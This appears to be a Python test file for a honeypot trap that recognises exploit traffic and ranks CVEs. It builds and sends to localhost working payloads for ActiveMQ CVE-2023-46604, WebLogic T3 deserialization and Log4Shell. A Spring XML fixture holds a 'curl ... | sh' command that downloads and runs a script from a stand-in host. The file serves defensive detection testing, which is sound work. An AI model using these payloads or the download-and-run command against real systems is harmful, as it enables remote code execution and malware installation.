@@ -1,0 +1,174 @@
+"""
+cases_trap.py - the catch-all trap's exploit recognition (src/intel/payloadclass.c,
+data/trap/exploits.yar): what arrives on a port with no module gets attack classes and CVEs,
+WebLogic's T3 handshake is answered as WebLogic answers it (nmap's weblogic-t3-info names the
+version, and the exploit's serialized object that follows is recognised), and the report ranks
+the trap's CVEs with the web engine's.
+
+Real client: nmap (weblogic-t3-info).  The exploits' bytes are written from the public
+proof-of-concept code of each CVE and sent with python sockets, byte for byte.
+"""
+import json
+import shutil
+import socket
+import struct
+import subprocess
+import time
+
+from harness import T, Service, Skip, by, wait_for
+from cases import case, stop_and_read
+from cases_capture import ALLOW_LOOPBACK, WebServer, wait_download
+from cases_report import report
+
+T3_HELLO = b"t3 12.2.1\nAS:255\nHL:19\nMS:10000000\nPU:t3://us-l-breens:7001\n\n"
+T3_HELO = b"HELO:12.2.1.3.0.false\nAS:2048\nHL:19\nMS:10000000\n\n"
+
+
+def openwire_exploit(url):
+    """CVE-2023-46604: an OpenWire ExceptionResponse whose throwable is a Spring XML context at url."""
+    def s(b):
+        return struct.pack(">H", len(b)) + b
+    body = (b"\x1f" + b"\x00" * 9 + b"\x01\x01" +
+            s(b"org.springframework.context.support.ClassPathXmlApplicationContext") + b"\x01" + s(url.encode()))
+    return struct.pack(">I", len(body)) + body
+
+
+def t3_object(gadget):
+    """A T3 message carrying a Java serialized object of class gadget."""
+    return (bytes.fromhex("000005c3016501ffffffffffffffff") + bytes.fromhex("aced00057372") +
+            struct.pack(">H", len(gadget)) + gadget + b"\x00" * 24)
+
+
+def talk(port, chunks, pause=0.5):
+    """Send each chunk, reading what comes back between them; returns the bytes received."""
+    s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
+    got = b""
+    try:
+        for c in chunks:
+            s.sendall(c)
+            s.settimeout(pause)
+            try:
+                while True:
+                    b = s.recv(4096)
+                    if not b:
+                        break
+                    got += b
+            except socket.timeout:
+                pass
+    finally:
+        s.close()
+    return got
+
+
+def payload_of(evs, session):
+    return [e for e in evs if e["eventid"] == "trap.payload" and e["session"] == session]
+
+
+@case
+def trap_exploits_recognised_answered_and_ranked(ctx):
+    """T3 (answered, then CVE-2016-0638), ActiveMQ CVE-2023-46604 (its XML fetched), Log4Shell sprayed
+    raw, NTP monlist over UDP (never answered) and a benign line: classes, CVEs and rules on the
+    trap.payload events, in JSONL and SQLite alike; the report's CVE and attack-class rankings count
+    them from the roll-ups and from the events."""
+    web = WebServer()
+    ctx.defer(web.close)
+    xml = (b'<?xml version="1.0" encoding="UTF-8" ?><beans xmlns="http://www.springframework.org/schema/beans">'
+           b'<bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list>'
+           b'<value>bash</value><value>-c</value><value>curl -s http://198.51.100.9/kinsing|sh</value>'
+           b'</list></constructor-arg></bean></beans>')
+    web.files["/poc.xml"] = xml
+    # flush_after well above the HELO's bound below: the answer must not wait for a pause
+    d = ctx.daemon("trap-exploits", [Service("trap", tcp=1, udp=1, flush_after="3s")],
+                   capture=dict(ALLOW_LOOPBACK)).start()
+    port, uport = d.svc("trap").port, d.svc("trap").uport
+
+    # WebLogic T3: the HELO comes at once (not after flush_after), then the object is sent
+    t0 = time.time()
+    s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
+    s.sendall(T3_HELLO)
+    helo = b""
+    while not helo.endswith(b"\n\n"):
+        b = s.recv(4096)
+        assert b, "closed before the HELO: %r" % helo
+        helo += b
+    assert helo == T3_HELO, helo
+    assert time.time() - t0 < T(1), "the HELO waited for flush_after"
+    s.sendall(t3_object(b"weblogic.jms.common.StreamMessageImpl"))
+    time.sleep(0.5)
+    s.close()
+
+    url = web.url("/poc.xml")
+    talk(port, [openwire_exploit(url)])
+    assert talk(port, [b"${jndi:ldap://198.51.100.3:1389/Basic/Command/Base64/aWQ=}\r\n"]) == b""
+    assert talk(port, [b"hello\r\n"]) == b""
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.settimeout(0.5)
+    u.sendto(bytes([0x17, 0x00, 0x03, 0x2a]) + b"\x00" * 4, ("127.0.0.1", uport))
+    try:
+        reply = u.recv(4096)
+    except socket.timeout:
+        reply = b""
+    u.close()
+    assert reply == b"", "UDP got an answer: %r" % reply
+
+    # nmap's script reads the version from the same answer ("+": run off its ports 7001-7003)
+    if shutil.which("nmap"):
+        r = subprocess.run(["nmap", "-Pn", "-n", "-p", str(port), "--script", "+weblogic-t3-info", "127.0.0.1"],
+                           capture_output=True, text=True, timeout=T(60))
+        assert "WebLogic version: 12.2.1.3" in r.stdout, r.stdout
+
+    wait_download(d, url)
+    d.wait_event(lambda e: e["eventid"] == "trap.payload" and e.get("transport") == "udp", what="UDP payload")
+    wait_for(lambda: len(by(d.events(), "session.closed")) >= 4, T(10), what="4 sessions closed")
+    evs = stop_and_read(d)
+
+    pl = [e for e in evs if e["eventid"] == "trap.payload"]
+    def one_with(rule):
+        got = [e for e in pl if rule in e.get("class_rules", [])]
+        assert len(got) == 1, (rule, [(e.get("class_rules"), e.get("payload", "")[:40]) for e in pl])
+        return got[0]
+    handshakes = [e for e in pl if "weblogic_t3_handshake" in e.get("class_rules", [])]
+    assert all(e["reply_rule"] == "weblogic_t3_handshake" for e in handshakes), handshakes   # nmap's too
+    hs = [e for e in handshakes if e["payload"] == T3_HELLO.decode()]
+    assert len(hs) == 1, handshakes
+    hs = hs[0]
+    assert hs["offset"] == 0 and hs["attack_classes"] == ["recon"] and hs["cves"] == [], hs
+    assert hs["reply_rule"] == "weblogic_t3_handshake" and hs["payload"] == T3_HELLO.decode(), hs
+    obj = one_with("weblogic_t3_gadget_2016_0638")
+    assert obj["session"] == hs["session"] and obj["offset"] == len(T3_HELLO), obj
+    assert "CVE-2016-0638" in obj["cves"] and "deserialization" in obj["attack_classes"], obj
+    assert "reply_rule" not in obj, obj
+    amq = one_with("activemq_openwire_spring_xml")
+    assert amq["cves"] == ["CVE-2023-46604"] and set(amq["attack_classes"]) == {"deserialization", "rce"}, amq
+    dl = [e for e in evs if e["eventid"] == "session.file_download" and e.get("url") == url]
+    assert len(dl) == 1 and dl[0]["session"] == amq["session"] and dl[0]["found_in"] == "trap", dl
+    assert web.count("/poc.xml") == 1
+    l4 = one_with("log4shell_jndi_lookup")
+    assert l4["cves"] == ["CVE-2021-44228"] and "jndi" in l4["attack_classes"], l4
+    ntp = one_with("ntp_monlist")
+    assert ntp["transport"] == "udp" and ntp["cves"] == ["CVE-2013-5211"] and "reply_rule" not in ntp, ntp
+    benign = [e for e in pl if e.get("payload") == "hello\r\n"]
+    assert len(benign) == 1 and not ({"attack_classes", "cves", "class_rules"} & set(benign[0])), benign
+    sq = {e["uid"]: e for e in d.sqlite_events()}
+    for e in pl:
+        assert sq[e["uid"]] == e, "SQLite differs for %s" % e["uid"]
+
+    want_cves = {}
+    want_classes = {}
+    for e in evs:
+        for c in e.get("cves", []):
+            want_cves[c] = want_cves.get(c, 0) + 1
+        for c in e.get("attack_classes", []):
+            want_classes[c] = want_classes.get(c, 0) + 1
+    assert {"CVE-2016-0638", "CVE-2023-46604", "CVE-2021-44228", "CVE-2013-5211"} <= set(want_cves), want_cves
+    day = evs[0]["timestamp"][:10]
+    for extra in ([], ["--no-rollup"]):
+        rep = json.loads(report(d, "--json", "--since", day, "--top", "50", *extra))
+        secs = {s["id"]: s for s in rep["sections"]}
+        got = {r["cve"]: r["attempts"] for r in secs["cves"]["rows"]}
+        assert got == want_cves, (extra, got, want_cves)
+        for r in secs["cves"]["rows"]:
+            assert r["vulnerability"], "%s has no name in cves.tsv" % r["cve"]
+        got = {r["class"]: r["attempts"] for r in secs["attack_classes"]["rows"]}
+        assert got == want_classes, (extra, got, want_classes)
+        assert secs["attack_classes"]["title"] == "Attack classes", secs["attack_classes"]["title"]
